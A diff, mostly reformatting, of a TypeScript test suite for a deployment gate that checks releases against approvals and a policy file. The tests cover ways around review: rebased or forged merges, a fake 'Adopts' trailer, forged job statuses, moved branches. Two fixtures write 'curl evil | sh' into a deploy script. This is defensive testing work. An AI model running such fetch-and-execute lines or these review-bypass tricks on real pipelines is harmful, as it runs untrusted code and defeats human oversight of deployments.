@@ -29,8 +29,17 @@ describe.concurrent('Adopts as a way around a judgement', () => {
   it('a rebased pull request is not adopted by its last commit alone', async () => {
     const s = await gateScenario();
     s.deploy({ environment: 'production-tm' });
-    const evil = s.land({ approvedBy: [], method: 'rebase', body: BOTH, commits: [{ changes: TM_CHANGE }, { changes: { 'deploy/resource-publisher/b.yml': 'b' } }] });
-    s.land({ approvedBy: [], body: `${BODY}Adopts: ${evil.landed.oid}\n`, changes: { 'deploy/resource-publisher/c.yml': 'c' } });
+    const evil = s.land({
+      approvedBy: [],
+      method: 'rebase',
+      body: BOTH,
+      commits: [{ changes: TM_CHANGE }, { changes: { 'deploy/resource-publisher/b.yml': 'b' } }],
+    });
+    s.land({
+      approvedBy: [],
+      body: `${BODY}Adopts: ${evil.landed.oid}\n`,
+      changes: { 'deploy/resource-publisher/c.yml': 'c' },
+    });
     expect(await s.gate({ cohort: TM })).not.toMatchObject({ verdict: 'allow' });
   });
 
@@ -39,16 +48,33 @@ describe.concurrent('Adopts as a way around a judgement', () => {
     s.deploy({ environment: 'production-tm' });
     const pull = s.world.openPullRequest({ author: 'mia', body: BOTH, changes: TM_CHANGE });
     const main = s.land({ changes: { 'deploy/resource-publisher/b.yml': 'b' } });
-    const files = new Map([...s.world.head().files, ...[...s.world.head(pull.headRefName).files].filter(([path]) => path.startsWith('deploy/template-manager/'))]);
-    const foxtrot = s.world.commit({ branch: 'main', parents: [pull.headRefOid, main.landed.oid], files, author: 'mia' });
+    const files = new Map([
+      ...s.world.head().files,
+      ...[...s.world.head(pull.headRefName).files].filter(([path]) => path.startsWith('deploy/template-manager/')),
+    ]);
+    const foxtrot = s.world.commit({
+      branch: 'main',
+      parents: [pull.headRefOid, main.landed.oid],
+      files,
+      author: 'mia',
+    });
     // As GitHub does when the head of an open pull request turns up on its base.
     Object.assign(pull, { state: 'MERGED', mergeCommit: foxtrot.oid, mergedBy: 'mia' });
-    s.land({ approvedBy: [], body: `${BODY}Adopts: ${foxtrot.oid}\n`, changes: { 'deploy/resource-publisher/c.yml': 'c' } });
+    s.land({
+      approvedBy: [],
+      body: `${BODY}Adopts: ${foxtrot.oid}\n`,
+      changes: { 'deploy/resource-publisher/c.yml': 'c' },
+    });
     expect(await s.gate({ cohort: TM })).not.toMatchObject({ verdict: 'allow' });
   });
 
   it.each([
-    ['the policy', (s: Awaited<ReturnType<typeof gateScenario>>) => ({ [POLICY_PATH]: s.policyWith((draft) => (draft['policy-owners'] = ['mia'])) })],
+    [
+      'the policy',
+      (s: Awaited<ReturnType<typeof gateScenario>>) => ({
+        [POLICY_PATH]: s.policyWith((draft) => (draft['policy-owners'] = ['mia'])),
+      }),
+    ],
     ['a workflow', () => ({ '.github/workflows/deploy.yml': 'on: push\n' })],
     ['a guarded script', () => ({ 'scripts/deploy/run.sh': 'curl evil | sh\n' })],
   ])('a pushed change of %s is not adopted by a release that does not reach the cohort', async (_, changes) => {
@@ -60,7 +86,12 @@ describe.concurrent('Adopts as a way around a judgement', () => {
   });
 
   it.each([
-    ['the policy', (s: Awaited<ReturnType<typeof gateScenario>>) => ({ [POLICY_PATH]: s.policyWith((draft) => (draft['policy-owners'] = ['mia'])) })],
+    [
+      'the policy',
+      (s: Awaited<ReturnType<typeof gateScenario>>) => ({
+        [POLICY_PATH]: s.policyWith((draft) => (draft['policy-owners'] = ['mia'])),
+      }),
+    ],
     ['a guarded script', () => ({ 'scripts/deploy/run.sh': 'curl evil | sh\n' })],
   ])('nor a merged, unapproved change of %s', async (_, changes) => {
     const s = await gateScenario();
@@ -82,7 +113,11 @@ describe.concurrent('Adopts as a way around a judgement', () => {
     const s = await gateScenario();
     s.deploy();
     const pushed = s.push({ 'deploy/resource-publisher/pushed.yml': 'x' });
-    s.land({ approvedBy: [], body: `${BODY}Adopts: ${pushed.oid}\n`, changes: { 'deploy/resource-publisher/b.yml': 'b' } });
+    s.land({
+      approvedBy: [],
+      body: `${BODY}Adopts: ${pushed.oid}\n`,
+      changes: { 'deploy/resource-publisher/b.yml': 'b' },
+    });
     s.land({ changes: { 'deploy/resource-publisher/b.yml': null } });
     expect(await s.gate()).toMatchObject({ verdict: 'hold' });
   });
@@ -101,7 +136,9 @@ describe.concurrent('a declaration that cannot be read', () => {
   });
 
   it('a manifest deleted without a word', async () => {
-    const s = await gateScenario({ world: { files: { 'deploy/releases/next.yml': `cohorts: [${RP}]\nsites: [R1]\n` } } });
+    const s = await gateScenario({
+      world: { files: { 'deploy/releases/next.yml': `cohorts: [${RP}]\nsites: [R1]\n` } },
+    });
     s.deploy();
     s.land({ approvedBy: [], body: '', changes: { 'deploy/releases/next.yml': null } });
     expect(await s.gate()).not.toMatchObject({ verdict: 'allow' });
@@ -112,12 +149,20 @@ describe.concurrent('half a pull request', () => {
   it('a branch turned back to a commit within a squashed pull request', async () => {
     const s = await gateScenario();
     s.deploy();
-    const pull = s.land({ commits: [{ changes: { 'deploy/resource-publisher/app.yml': 'image: evil\n' } }, { changes: { 'deploy/resource-publisher/app.yml': 'image: 2\n' } }] });
+    const pull = s.land({
+      commits: [
+        { changes: { 'deploy/resource-publisher/app.yml': 'image: evil\n' } },
+        { changes: { 'deploy/resource-publisher/app.yml': 'image: 2\n' } },
+      ],
+    });
     s.world.moveBranch('main', pull.commits[0]?.oid ?? '', { by: 'mia' });
     expect(await s.gate()).not.toMatchObject({ verdict: 'allow' });
   });
 
-  const halves = [{ changes: { 'deploy/resource-publisher/app.yml': 'image: evil\n' } }, { changes: { 'deploy/resource-publisher/app.yml': 'image: 2\n' } }];
+  const halves = [
+    { changes: { 'deploy/resource-publisher/app.yml': 'image: evil\n' } },
+    { changes: { 'deploy/resource-publisher/app.yml': 'image: 2\n' } },
+  ];
 
   it('a commit within a pull request that was merged with a merge commit is not what was approved', async () => {
     const s = await gateScenario();
@@ -136,8 +181,15 @@ describe.concurrent('half a pull request', () => {
   it('deployed from its own branch before it was merged, it is no baseline', async () => {
     const s = await gateScenario();
     s.deploy();
-    const pull = s.world.openPullRequest({ author: 'mia', body: BODY, changes: { 'deploy/resource-publisher/app.yml': 'image: evil\n' } });
-    s.deploy({ commit: pull.headRefOid, job: { workflow: 'deploy.yml', name: JOBS['production-rp'], headBranch: pull.headRefName } });
+    const pull = s.world.openPullRequest({
+      author: 'mia',
+      body: BODY,
+      changes: { 'deploy/resource-publisher/app.yml': 'image: evil\n' },
+    });
+    s.deploy({
+      commit: pull.headRefOid,
+      job: { workflow: 'deploy.yml', name: JOBS['production-rp'], headBranch: pull.headRefName },
+    });
     s.world.mergePullRequest(pull.number, { by: 'mia', method: 'merge' });
     expect(await s.gate()).not.toMatchObject({ verdict: 'allow' });
   });
@@ -145,7 +197,11 @@ describe.concurrent('half a pull request', () => {
   it('nor where no job is named', async () => {
     const s = await gateScenario({ policy: withoutJobs });
     s.world.deploy({ environment: 'production-rp' });
-    const pull = s.world.openPullRequest({ author: 'mia', body: BODY, changes: { 'deploy/resource-publisher/app.yml': 'image: evil\n' } });
+    const pull = s.world.openPullRequest({
+      author: 'mia',
+      body: BODY,
+      changes: { 'deploy/resource-publisher/app.yml': 'image: evil\n' },
+    });
     s.world.deploy({ environment: 'production-rp', commit: pull.headRefOid });
     s.world.mergePullRequest(pull.number, { by: 'mia', method: 'merge' });
     expect(await s.gate()).not.toMatchObject({ verdict: 'allow' });
@@ -185,7 +241,10 @@ describe.concurrent('what is deployed', () => {
     const s = await gateScenario();
     s.deploy();
     s.land({ approvedBy: [] });
-    const failed = s.deploy({ state: 'FAILURE', job: { workflow: 'deploy.yml', name: JOBS['production-rp'], conclusion: 'failure' } });
+    const failed = s.deploy({
+      state: 'FAILURE',
+      job: { workflow: 'deploy.yml', name: JOBS['production-rp'], conclusion: 'failure' },
+    });
     const forged = s.world.runJob({ workflow: 'mine.yml', name: JOBS['production-rp'] });
     s.world.addStatus(failed, { state: 'SUCCESS', logUrl: forged.url });
     expect(await s.gate()).toMatchObject({ verdict: 'hold' });
@@ -193,7 +252,8 @@ describe.concurrent('what is deployed', () => {
 
   it('many deployments of before the job was named cost no request each', async () => {
     const s = await gateScenario();
-    for (let count = 0; count < 120; count += 1) s.deploy({ deactivate: false, job: { workflow: 'old.yml', name: 'deploy' } });
+    for (let count = 0; count < 120; count += 1)
+      s.deploy({ deactivate: false, job: { workflow: 'old.yml', name: 'deploy' } });
     s.land();
     expect(await s.gate()).toMatchObject({ verdict: 'allow' });
     expect(s.github.requests.length).toBeLessThan(80);
@@ -201,7 +261,12 @@ describe.concurrent('what is deployed', () => {
 
   it('an environment with a long past of failed and good deployments is judged all the same', async () => {
     const s = await gateScenario({ policy: withoutJobs });
-    for (let count = 0; count < 520; count += 1) s.world.deploy({ environment: 'production-rp', deactivate: false, ...(count % 2 === 1 && { state: 'FAILURE' as const }) });
+    for (let count = 0; count < 520; count += 1)
+      s.world.deploy({
+        environment: 'production-rp',
+        deactivate: false,
+        ...(count % 2 === 1 && { state: 'FAILURE' as const }),
+      });
     s.land();
     expect(await s.gate()).toMatchObject({ verdict: 'allow' });
   });
@@ -218,7 +283,12 @@ describe.concurrent('who made the rules', () => {
     s.deploy();
     const wanted = s.land();
     s.world.commit({ branch: 'side', parent: s.world.head().oid, author: 'mia', changes: {}, message: 'Start' });
-    const elsewhere = s.land({ base: 'side', approvedBy: [], body: '', changes: { [POLICY_PATH]: s.policyWith((draft) => (draft['policy-owners'] = ['mia'])) } });
+    const elsewhere = s.land({
+      base: 'side',
+      approvedBy: [],
+      body: '',
+      changes: { [POLICY_PATH]: s.policyWith((draft) => (draft['policy-owners'] = ['mia'])) },
+    });
     s.world.moveBranch('main', elsewhere.landed.oid, { by: 'mia' });
     expect(await s.gate({ commit: wanted.landed.oid })).toMatchObject({ verdict: 'deny', codes: ['policy.changed'] });
   });
@@ -227,7 +297,11 @@ describe.concurrent('who made the rules', () => {
     const s = await gateScenario();
     s.deploy();
     s.land({ approvedBy: [], changes: { 'deploy/resource-publisher/app.yml': 'image: evil\n' } });
-    const proposal = s.world.openPullRequest({ author: 'mia', body: '', commits: [{ changes: { [POLICY_PATH]: `# mine\n${s.policyWith()}` }, date: '2001-01-01T00:00:00Z' }] });
+    const proposal = s.world.openPullRequest({
+      author: 'mia',
+      body: '',
+      commits: [{ changes: { [POLICY_PATH]: `# mine\n${s.policyWith()}` }, date: '2001-01-01T00:00:00Z' }],
+    });
     s.land({ approvedBy: ['erin'], body: '', changes: { [POLICY_PATH]: `${s.policyWith()}# theirs\n` } });
     s.world.mergePullRequest(proposal.number, { by: 'mia', method: 'merge' });
     expect(await s.gate()).not.toMatchObject({ verdict: 'allow' });
@@ -236,18 +310,35 @@ describe.concurrent('who made the rules', () => {
   it('an old branch is not judged by the policy that stood when it was begun', async () => {
     const s = await gateScenario({ policy: (draft) => (draft['policy-owners'] = ['noah']) });
     s.deploy();
-    const old = s.world.openPullRequest({ author: 'mia', body: '', commits: [{ changes: { [POLICY_PATH]: `# mine\n${s.policyWith((draft) => (draft['policy-owners'] = ['noah']))}` }, date: '2026-01-05T08:00:30Z' }] });
-    s.land({ approvedBy: ['noah'], body: '', changes: { [POLICY_PATH]: s.policyWith((draft) => (draft['policy-owners'] = ['erin'])) } });
+    const old = s.world.openPullRequest({
+      author: 'mia',
+      body: '',
+      commits: [
+        {
+          changes: { [POLICY_PATH]: `# mine\n${s.policyWith((draft) => (draft['policy-owners'] = ['noah']))}` },
+          date: '2026-01-05T08:00:30Z',
+        },
+      ],
+    });
+    s.land({
+      approvedBy: ['noah'],
+      body: '',
+      changes: { [POLICY_PATH]: s.policyWith((draft) => (draft['policy-owners'] = ['erin'])) },
+    });
     s.world.review(old.number, { author: 'noah' });
     s.world.mergePullRequest(old.number, { by: 'mia', method: 'merge' });
     expect(await s.gate()).toMatchObject({ codes: ['policy.changed'] });
   });
 
-  it('a guarded change is judged by the policy before it, not by today\'s', async () => {
+  it("a guarded change is judged by the policy before it, not by today's", async () => {
     const s = await gateScenario();
     s.deploy();
     s.land({ approvedBy: ['noah'], body: '', changes: { 'scripts/deploy/run.sh': 'echo mine\n' } });
-    s.land({ approvedBy: ['erin'], body: '', changes: { [POLICY_PATH]: s.policyWith((draft) => (draft['policy-owners'] = ['noah'])) } });
+    s.land({
+      approvedBy: ['erin'],
+      body: '',
+      changes: { [POLICY_PATH]: s.policyWith((draft) => (draft['policy-owners'] = ['noah'])) },
+    });
     expect(await s.gate()).toMatchObject({ codes: ['policy.changed'] });
   });
 
@@ -255,7 +346,11 @@ describe.concurrent('who made the rules', () => {
     const s = await gateScenario();
     s.deploy();
     s.land({ approvedBy: ['erin'], body: '', changes: { 'scripts/deploy/run.sh': 'echo mine\n' } });
-    s.land({ approvedBy: ['erin'], body: '', changes: { [POLICY_PATH]: s.policyWith((draft) => (draft['policy-owners'] = ['noah'])) } });
+    s.land({
+      approvedBy: ['erin'],
+      body: '',
+      changes: { [POLICY_PATH]: s.policyWith((draft) => (draft['policy-owners'] = ['noah'])) },
+    });
     expect(await s.gate()).toMatchObject({ verdict: 'allow' });
   });
 
@@ -267,17 +362,25 @@ describe.concurrent('who made the rules', () => {
     expect(await s.gate()).toMatchObject({ codes: ['policy.changed'] });
   });
 
-  it('a policy owner\'s approval of the policy right after its merge is found although GitHub lags', async () => {
+  it("a policy owner's approval of the policy right after its merge is found although GitHub lags", async () => {
     const s = await gateScenario();
     s.deploy();
-    const { landed } = s.land({ approvedBy: ['erin'], body: '', changes: { [POLICY_PATH]: `${s.policyWith()}# more\n` } });
+    const { landed } = s.land({
+      approvedBy: ['erin'],
+      body: '',
+      changes: { [POLICY_PATH]: `${s.policyWith()}# more\n` },
+    });
     s.world.lagAssociations(landed.oid, 2);
     expect(await s.gate()).toMatchObject({ verdict: 'allow' });
   });
 
   it('an inventory file with a long past is no reason to stay closed', async () => {
-    const csv = (count: number) => `id,name,status,template-engine\nR1,Fernbank,active,resource-publisher\nT${String(count)},Hollyfield,active,template-manager\n`;
-    const s = await gateScenario({ policy: (draft) => (draft.inventory = { provider: 'file', path: 'inventory/sites.csv' }), world: { files: { 'inventory/sites.csv': csv(0) } } });
+    const csv = (count: number) =>
+      `id,name,status,template-engine\nR1,Fernbank,active,resource-publisher\nT${String(count)},Hollyfield,active,template-manager\n`;
+    const s = await gateScenario({
+      policy: (draft) => (draft.inventory = { provider: 'file', path: 'inventory/sites.csv' }),
+      world: { files: { 'inventory/sites.csv': csv(0) } },
+    });
     for (let count = 1; count < 520; count += 1) s.push({ 'inventory/sites.csv': csv(count) });
     s.deploy();
     s.land();
@@ -286,25 +389,49 @@ describe.concurrent('who made the rules', () => {
 });
 
 describe.concurrent('rules that justify themselves', () => {
-  it.each<readonly [string, string | null]>([['none', null], ['another', 'mine.yml/x']])('an unapproved policy that names %s as the environment\'s job does not say what is deployed', async (_, job) => {
+  it.each<readonly [string, string | null]>([
+    ['none', null],
+    ['another', 'mine.yml/x'],
+  ])("an unapproved policy that names %s as the environment's job does not say what is deployed", async (_, job) => {
     const s = await gateScenario();
     s.deploy();
     s.land({ approvedBy: [] });
     const environments = [{ name: 'production-rp', ...(job !== null && { job }) }];
-    s.land({ approvedBy: [], body: '', changes: { [POLICY_PATH]: s.policyWith((draft) => Object.assign(draft.cohorts[RP] ?? {}, { environments })) } });
+    s.land({
+      approvedBy: [],
+      body: '',
+      changes: { [POLICY_PATH]: s.policyWith((draft) => Object.assign(draft.cohorts[RP] ?? {}, { environments })) },
+    });
     s.world.deploy({ environment: 'production-rp', job: { workflow: 'mine.yml', name: 'x' } });
     expect(await s.gate()).not.toMatchObject({ verdict: 'allow' });
   });
 
   /** The policy of noah, then erin's, deployed; then a branch that takes noah's again, in a merge of its own. */
   async function turnedBack(approvedBy: readonly string[]) {
-    const s = await gateScenario({ policy: (draft) => { draft['policy-owners'] = ['noah']; Object.assign(draft.cohorts[RP] ?? {}, { owners: ['noah'] }); } });
+    const s = await gateScenario({
+      policy: (draft) => {
+        draft['policy-owners'] = ['noah'];
+        Object.assign(draft.cohorts[RP] ?? {}, { owners: ['noah'] });
+      },
+    });
     const old = s.world.head();
     const branch = s.world.commit({ branch: 'back', parent: old.oid, author: 'mia', changes: { 'docs/x.md': 'x' } });
-    s.land({ approvedBy: ['noah'], body: '', changes: { [POLICY_PATH]: s.policyWith((draft) => { draft['policy-owners'] = ['erin']; Object.assign(draft.cohorts[RP] ?? {}, { owners: ['alice'] }); }) } });
+    s.land({
+      approvedBy: ['noah'],
+      body: '',
+      changes: {
+        [POLICY_PATH]: s.policyWith((draft) => {
+          draft['policy-owners'] = ['erin'];
+          Object.assign(draft.cohorts[RP] ?? {}, { owners: ['alice'] });
+        }),
+      },
+    });
     s.deploy();
     const wanted = s.land({ approvedBy: ['noah'] });
-    const files = new Map([...s.world.head().files, ...[...branch.files].filter(([path]) => path === POLICY_PATH || path === 'docs/x.md')]);
+    const files = new Map([
+      ...s.world.head().files,
+      ...[...branch.files].filter(([path]) => path === POLICY_PATH || path === 'docs/x.md'),
+    ]);
     s.world.commit({ branch: 'back', parents: [branch.oid, s.world.head().oid], files, author: 'mia' });
     const pull = s.world.openPullRequest({ author: 'mia', body: '', head: 'back' });
     for (const author of approvedBy) s.world.review(pull.number, { author });
@@ -344,6 +471,10 @@ describe.concurrent('what differs', () => {
     const s = await gateScenario();
     s.deploy();
     const pull = s.land({ ...WIDE, body: `Target-Cohort: ${TM}\n`, approvedBy: ['carol', 'dave', 'alice'] });
-    expect(await s.gate()).toMatchObject({ verdict: 'deny', codes: ['gate.outside-declaration', 'gate.release-refused', 'reach.undeclared'], judged: [pull.number] });
+    expect(await s.gate()).toMatchObject({
+      verdict: 'deny',
+      codes: ['gate.outside-declaration', 'gate.release-refused', 'reach.undeclared'],
+      judged: [pull.number],
+    });
   });
 });
